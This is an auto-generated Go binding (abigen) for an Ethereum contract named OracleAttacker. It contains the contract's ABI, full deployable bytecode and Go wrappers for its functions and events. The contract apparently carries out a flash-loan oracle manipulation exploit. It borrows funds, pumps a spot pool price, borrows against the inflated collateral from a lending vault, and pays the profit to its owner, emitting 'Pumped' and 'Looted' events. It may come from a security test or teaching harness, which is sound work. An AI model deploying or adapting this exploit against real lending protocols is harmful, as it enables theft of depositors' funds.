// Code generated via abigen V2 - DO NOT EDIT.
// This file is a generated binding and any manual changes will be lost.

package contracts

import (
	"bytes"
	"errors"
	"math/big"

	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// Reference imports to suppress errors if they are not otherwise used.
var (
	_ = bytes.Equal
	_ = errors.New
	_ = big.NewInt
	_ = common.Big1
	_ = types.BloomLookup
	_ = abi.ConvertType
)

// OracleAttackerMetaData contains all meta data concerning the OracleAttacker contract.
var OracleAttackerMetaData = bind.MetaData{
	ABI: "[{\"inputs\":[{\"internalType\":\"address\",\"name\":\"vault_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"pool_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"lender_\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"token_\",\"type\":\"address\"}],\"stateMutability\":\"nonpayable\",\"type\":\"constructor\"},{\"anonymous\":false,\"inputs\":[{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"loan\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"payout\",\"type\":\"uint256\"}],\"name\":\"Looted\",\"type\":\"event\"},{\"anonymous\":false,\"inputs\":[{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"priceBefore\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"pumpedPrice\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"collateral\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"borrowed\",\"type\":\"uint256\"}],\"name\":\"Pumped\",\"type\":\"event\"},{\"inputs\":[{\"internalType\":\"uint256\",\"name\":\"loan\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"take\",\"type\":\"uint256\"}],\"name\":\"attack\",\"outputs\":[],\"stateMutability\":\"payable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"lender\",\"outputs\":[{\"internalType\":\"contractFlashLender\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"initiator\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"},{\"internalType\":\"uint256\",\"name\":\"amount\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"fee\",\"type\":\"uint256\"},{\"internalType\":\"bytes\",\"name\":\"data\",\"type\":\"bytes\"}],\"name\":\"onFlashLoan\",\"outputs\":[{\"internalType\":\"bytes32\",\"name\":\"\",\"type\":\"bytes32\"}],\"stateMutability\":\"payable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"owner\",\"outputs\":[{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"pool\",\"outputs\":[{\"internalType\":\"contractSpotPool\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"token\",\"outputs\":[{\"internalType\":\"contractIERC20\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"vault\",\"outputs\":[{\"internalType\":\"contractILendingVault\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"stateMutability\":\"payable\",\"type\":\"receive\"}]",
	ID:  "OracleAttacker",
	Bin: "0x610120604052348015610010575f5ffd5b5060405161110538038061110583398101604081905261002f91610071565b336080526001600160a01b0393841660a05291831660c052821660e05216610100526100c2565b80516001600160a01b038116811461006c575f5ffd5b919050565b5f5f5f5f60808587031215610084575f5ffd5b61008d85610056565b935061009b60208601610056565b92506100a960408601610056565b91506100b760608601610056565b905092959194509250565b60805160a05160c05160e05161010051610f756101905f395f81816101ac0152818161064a0152818161080101526108bb01525f8181610131015281816101da015281816109c201528181610b040152610b3401525f8181608d0152818161026301528181610301015281816103d201528181610889015261094401525f818161017901528181610371015281816103a301528181610474015281816105090152818161061b015281816106cb015261074201525f818160fe01528181610aa90152610c460152610f755ff3fe608060405260043610610071575f3560e01c8063bcead63e1161004c578063bcead63e14610120578063e1fa763814610153578063fbfa77cf14610168578063fc0c546a1461019b575f5ffd5b806316f0115b1461007c57806323e30c8b146100cc5780638da5cb5b146100ed575f5ffd5b3661007857005b5f5ffd5b348015610087575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b6040516001600160a01b0390911681526020015b60405180910390f35b6100df6100da366004610d3b565b6101ce565b6040519081526020016100c3565b3480156100f8575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b34801561012b575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b610166610161366004610de0565b610a9e565b005b348015610173575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b3480156101a6575f5ffd5b506100af7f000000000000000000000000000000000000000000000000000000000000000081565b5f336001600160a01b037f00000000000000000000000000000000000000000000000000000000000000001614801561020f57506001600160a01b03871630145b6102515760405162461bcd60e51b815260206004820152600e60248201526d3ab73a393ab9ba32b2103637b0b760911b60448201526064015b60405180910390fd5b5f61025e83850185610e00565b90505f7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031663398482d86040518163ffffffff1660e01b8152600401602060405180830381865afa1580156102bd573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906102e19190610e17565b604051631dc437b160e01b81525f60048201529091506001600160a01b037f00000000000000000000000000000000000000000000000000000000000000001690631dc437b190899060240160206040518083038185885af1158015610349573d5f5f3e3d5ffd5b50505050506040513d601f19601f8201168201806040525081019061036e9190610e17565b507f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316318211156103cf577f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03163191505b5f7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031663398482d86040518163ffffffff1660e01b8152600401602060405180830381865afa15801561042c573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906104509190610e17565b6040516326db15bb60e21b81523060048201529091505f9084906001600160a01b037f00000000000000000000000000000000000000000000000000000000000000001690639b6c56ec90602401602060405180830381865afa1580156104b9573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906104dd9190610e17565b6104e79190610e42565b6040516397a9d45760e01b81523060048201529091505f906001600160a01b037f000000000000000000000000000000000000000000000000000000000000000016906397a9d45790602401602060405180830381865afa15801561054e573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906105729190610e17565b90505f8183111561072c575f611d4c60018161058e8688610e5b565b61059a90612710610e6e565b6105a49190610e42565b6105ae9190610e5b565b6105b89190610e85565b9050846001816105d084670de0b6b3a7640000610e6e565b6105da9190610e42565b6105e49190610e5b565b6105ee9190610e85565b9150821561060457610601600283610e42565b91505b60405163095ea7b360e01b81526001600160a01b037f000000000000000000000000000000000000000000000000000000000000000081166004830152602482018490527f0000000000000000000000000000000000000000000000000000000000000000169063095ea7b3906044016020604051808303815f875af1158015610690573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906106b49190610ea4565b5060405163bad4a01f60e01b8152600481018390527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03169063bad4a01f906024015f604051808303815f87803b158015610714575f5ffd5b505af1158015610726573d5f5f3e3d5ffd5b50505050505b60405163317afabb60e21b8152600481018790527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03169063c5ebeaec906024015f604051808303815f87803b15801561078b575f5ffd5b505af115801561079d573d5f5f3e3d5ffd5b50506040805188815260208101889052908101849052606081018990527f7c673b3e19f8a740582d59c68396e785953e5f6db7821485534bf481ebd5909a9250608001905060405180910390a16040516370a0823160e01b81523060048201525f907f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316906370a0823190602401602060405180830381865afa15801561084e573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906108729190610e17565b60405163095ea7b360e01b81526001600160a01b037f000000000000000000000000000000000000000000000000000000000000000081166004830152602482018390529192507f00000000000000000000000000000000000000000000000000000000000000009091169063095ea7b3906044016020604051808303815f875af1158015610903573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906109279190610ea4565b506040516304c848a160e11b8152600481018290525f60248201527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316906309909142906044016020604051808303815f875af1158015610992573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906109b69190610e17565b505f6001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000166109ec8d8f610e42565b6040515f81818185875af1925050503d805f8114610a25576040519150601f19603f3d011682016040523d82523d5f602084013e610a2a565b606091505b5050905080610a6a5760405162461bcd60e51b815260206004820152600c60248201526b1c995c185e4819985a5b195960a21b6044820152606401610248565b507f439148f0bbc682ca079e46d6e2c2f0c1e3b820f1a291b069d8882abf8cf18dd99e9d5050505050505050505050505050565b336001600160a01b037f00000000000000000000000000000000000000000000000000000000000000001614610b025760405162461bcd60e51b81526020600482015260096024820152683737ba1037bbb732b960b91b6044820152606401610248565b7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316635cffe9de307f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316638322fff26040518163ffffffff1660e01b8152600401602060405180830381865afa158015610b8e573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610bb29190610eca565b8585604051602001610bc691815260200190565b6040516020818303038152906040526040518563ffffffff1660e01b8152600401610bf49493929190610ee5565b6020604051808303815f875af1158015610c10573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610c349190610ea4565b5060405147905f906001600160a01b037f0000000000000000000000000000000000000000000000000000000000000000169083908381818185875af1925050503d805f8114610c9f576040519150601f19603f3d011682016040523d82523d5f602084013e610ca4565b606091505b5050905080610ce55760405162461bcd60e51b815260206004820152600d60248201526c1c185e5bdd5d0819985a5b1959609a1b6044820152606401610248565b60408051858152602081018490527fdfcd75da972ad40bcfe500564e0cd67c912066c07fa1c95c09120eda86025ee3910160405180910390a150505050565b6001600160a01b0381168114610d38575f5ffd5b50565b5f5f5f5f5f5f60a08789031215610d50575f5ffd5b8635610d5b81610d24565b95506020870135610d6b81610d24565b94506040870135935060608701359250608087013567ffffffffffffffff811115610d94575f5ffd5b8701601f81018913610da4575f5ffd5b803567ffffffffffffffff811115610dba575f5ffd5b896020828401011115610dcb575f5ffd5b60208201935080925050509295509295509295565b5f5f60408385031215610df1575f5ffd5b50508035926020909101359150565b5f60208284031215610e10575f5ffd5b5035919050565b5f60208284031215610e27575f5ffd5b5051919050565b634e487b7160e01b5f52601160045260245ffd5b80820180821115610e5557610e55610e2e565b92915050565b81810381811115610e5557610e55610e2e565b8082028115828204841417610e5557610e55610e2e565b5f82610e9f57634e487b7160e01b5f52601260045260245ffd5b500490565b5f60208284031215610eb4575f5ffd5b81518015158114610ec3575f5ffd5b9392505050565b5f60208284031215610eda575f5ffd5b8151610ec381610d24565b60018060a01b038516815260018060a01b0384166020820152826040820152608060608201525f8251806080840152806020850160a085015e5f60a0828501015260a0601f19601f8301168401019150509594505050505056fea26469706673582212202af67de94932a2ef1fdbdf7a4450141eeb168e53d3adae0f8e920cbc42264c7164736f6c634300081e0033",
}

// OracleAttacker is an auto generated Go binding around an Ethereum contract.
type OracleAttacker struct {
	abi abi.ABI
}

// GetABI returns the ABI associated with this contract binding.
func (c *OracleAttacker) GetABI() abi.ABI {
	return c.abi
}

// NewOracleAttacker creates a new instance of OracleAttacker.
func NewOracleAttacker() *OracleAttacker {
	parsed, err := OracleAttackerMetaData.ParseABI()
	if err != nil {
		panic(errors.New("invalid ABI: " + err.Error()))
	}
	return &OracleAttacker{abi: *parsed}
}

// Instance creates a wrapper for a deployed contract instance at the given address.
// Use this to create the instance object passed to abigen v2 library functions Call, Transact, etc.
func (c *OracleAttacker) Instance(backend bind.ContractBackend, addr common.Address) *bind.BoundContract {
	return bind.NewBoundContract(addr, c.abi, backend, backend, backend)
}

// PackConstructor is the Go binding used to pack the parameters required for
// contract deployment.
//
// Solidity: constructor(address vault_, address pool_, address lender_, address token_) returns()
func (oracleAttacker *OracleAttacker) PackConstructor(vault_ common.Address, pool_ common.Address, lender_ common.Address, token_ common.Address) []byte {
	enc, err := oracleAttacker.abi.Pack("", vault_, pool_, lender_, token_)
	if err != nil {
		panic(err)
	}
	return enc
}

// PackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xe1fa7638.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function attack(uint256 loan, uint256 take) payable returns()
func (oracleAttacker *OracleAttacker) PackAttack(loan *big.Int, take *big.Int) []byte {
	enc, err := oracleAttacker.abi.Pack("attack", loan, take)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xe1fa7638.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function attack(uint256 loan, uint256 take) payable returns()
func (oracleAttacker *OracleAttacker) TryPackAttack(loan *big.Int, take *big.Int) ([]byte, error) {
	return oracleAttacker.abi.Pack("attack", loan, take)
}

// PackLender is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xbcead63e.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function lender() view returns(address)
func (oracleAttacker *OracleAttacker) PackLender() []byte {
	enc, err := oracleAttacker.abi.Pack("lender")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackLender is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xbcead63e.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function lender() view returns(address)
func (oracleAttacker *OracleAttacker) TryPackLender() ([]byte, error) {
	return oracleAttacker.abi.Pack("lender")
}

// UnpackLender is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xbcead63e.
//
// Solidity: function lender() view returns(address)
func (oracleAttacker *OracleAttacker) UnpackLender(data []byte) (common.Address, error) {
	out, err := oracleAttacker.abi.Unpack("lender", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackOnFlashLoan is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x23e30c8b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes data) payable returns(bytes32)
func (oracleAttacker *OracleAttacker) PackOnFlashLoan(initiator common.Address, arg1 common.Address, amount *big.Int, fee *big.Int, data []byte) []byte {
	enc, err := oracleAttacker.abi.Pack("onFlashLoan", initiator, arg1, amount, fee, data)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOnFlashLoan is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x23e30c8b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes data) payable returns(bytes32)
func (oracleAttacker *OracleAttacker) TryPackOnFlashLoan(initiator common.Address, arg1 common.Address, amount *big.Int, fee *big.Int, data []byte) ([]byte, error) {
	return oracleAttacker.abi.Pack("onFlashLoan", initiator, arg1, amount, fee, data)
}

// UnpackOnFlashLoan is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x23e30c8b.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes data) payable returns(bytes32)
func (oracleAttacker *OracleAttacker) UnpackOnFlashLoan(data []byte) ([32]byte, error) {
	out, err := oracleAttacker.abi.Unpack("onFlashLoan", data)
	if err != nil {
		return *new([32]byte), err
	}
	out0 := *abi.ConvertType(out[0], new([32]byte)).(*[32]byte)
	return out0, nil
}

// PackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function owner() view returns(address)
func (oracleAttacker *OracleAttacker) PackOwner() []byte {
	enc, err := oracleAttacker.abi.Pack("owner")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function owner() view returns(address)
func (oracleAttacker *OracleAttacker) TryPackOwner() ([]byte, error) {
	return oracleAttacker.abi.Pack("owner")
}

// UnpackOwner is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x8da5cb5b.
//
// Solidity: function owner() view returns(address)
func (oracleAttacker *OracleAttacker) UnpackOwner(data []byte) (common.Address, error) {
	out, err := oracleAttacker.abi.Unpack("owner", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackPool is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x16f0115b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function pool() view returns(address)
func (oracleAttacker *OracleAttacker) PackPool() []byte {
	enc, err := oracleAttacker.abi.Pack("pool")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackPool is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x16f0115b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function pool() view returns(address)
func (oracleAttacker *OracleAttacker) TryPackPool() ([]byte, error) {
	return oracleAttacker.abi.Pack("pool")
}

// UnpackPool is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x16f0115b.
//
// Solidity: function pool() view returns(address)
func (oracleAttacker *OracleAttacker) UnpackPool(data []byte) (common.Address, error) {
	out, err := oracleAttacker.abi.Unpack("pool", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackToken is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xfc0c546a.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function token() view returns(address)
func (oracleAttacker *OracleAttacker) PackToken() []byte {
	enc, err := oracleAttacker.abi.Pack("token")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackToken is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xfc0c546a.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function token() view returns(address)
func (oracleAttacker *OracleAttacker) TryPackToken() ([]byte, error) {
	return oracleAttacker.abi.Pack("token")
}

// UnpackToken is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xfc0c546a.
//
// Solidity: function token() view returns(address)
func (oracleAttacker *OracleAttacker) UnpackToken(data []byte) (common.Address, error) {
	out, err := oracleAttacker.abi.Unpack("token", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackVault is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xfbfa77cf.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function vault() view returns(address)
func (oracleAttacker *OracleAttacker) PackVault() []byte {
	enc, err := oracleAttacker.abi.Pack("vault")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackVault is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xfbfa77cf.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function vault() view returns(address)
func (oracleAttacker *OracleAttacker) TryPackVault() ([]byte, error) {
	return oracleAttacker.abi.Pack("vault")
}

// UnpackVault is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0xfbfa77cf.
//
// Solidity: function vault() view returns(address)
func (oracleAttacker *OracleAttacker) UnpackVault(data []byte) (common.Address, error) {
	out, err := oracleAttacker.abi.Unpack("vault", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// OracleAttackerLooted represents a Looted event raised by the OracleAttacker contract.
type OracleAttackerLooted struct {
	Loan   *big.Int
	Payout *big.Int
	Raw    *types.Log // Blockchain specific contextual infos
}

const OracleAttackerLootedEventName = "Looted"

// ContractEventName returns the user-defined event name.
func (OracleAttackerLooted) ContractEventName() string {
	return OracleAttackerLootedEventName
}

// UnpackLootedEvent is the Go binding that unpacks the event data emitted
// by contract.
//
// Solidity: event Looted(uint256 loan, uint256 payout)
func (oracleAttacker *OracleAttacker) UnpackLootedEvent(log *types.Log) (*OracleAttackerLooted, error) {
	event := "Looted"
	if len(log.Topics) == 0 {
		return nil, bind.ErrNoEventSignature
	}
	if log.Topics[0] != oracleAttacker.abi.Events[event].ID {
		return nil, bind.ErrEventSignatureMismatch
	}
	out := new(OracleAttackerLooted)
	if len(log.Data) > 0 {
		if err := oracleAttacker.abi.UnpackIntoInterface(out, event, log.Data); err != nil {
			return nil, err
		}
	}
	var indexed abi.Arguments
	for _, arg := range oracleAttacker.abi.Events[event].Inputs {
		if arg.Indexed {
			indexed = append(indexed, arg)
		}
	}
	if err := abi.ParseTopics(out, indexed, log.Topics[1:]); err != nil {
		return nil, err
	}
	out.Raw = log
	return out, nil
}

// OracleAttackerPumped represents a Pumped event raised by the OracleAttacker contract.
type OracleAttackerPumped struct {
	PriceBefore *big.Int
	PumpedPrice *big.Int
	Collateral  *big.Int
	Borrowed    *big.Int
	Raw         *types.Log // Blockchain specific contextual infos
}

const OracleAttackerPumpedEventName = "Pumped"

// ContractEventName returns the user-defined event name.
func (OracleAttackerPumped) ContractEventName() string {
	return OracleAttackerPumpedEventName
}

// UnpackPumpedEvent is the Go binding that unpacks the event data emitted
// by contract.
//
// Solidity: event Pumped(uint256 priceBefore, uint256 pumpedPrice, uint256 collateral, uint256 borrowed)
func (oracleAttacker *OracleAttacker) UnpackPumpedEvent(log *types.Log) (*OracleAttackerPumped, error) {
	event := "Pumped"
	if len(log.Topics) == 0 {
		return nil, bind.ErrNoEventSignature
	}
	if log.Topics[0] != oracleAttacker.abi.Events[event].ID {
		return nil, bind.ErrEventSignatureMismatch
	}
	out := new(OracleAttackerPumped)
	if len(log.Data) > 0 {
		if err := oracleAttacker.abi.UnpackIntoInterface(out, event, log.Data); err != nil {
			return nil, err
		}
	}
	var indexed abi.Arguments
	for _, arg := range oracleAttacker.abi.Events[event].Inputs {
		if arg.Indexed {
			indexed = append(indexed, arg)
		}
	}
	if err := abi.ParseTopics(out, indexed, log.Topics[1:]); err != nil {
		return nil, err
	}
	out.Raw = log
	return out, nil
}
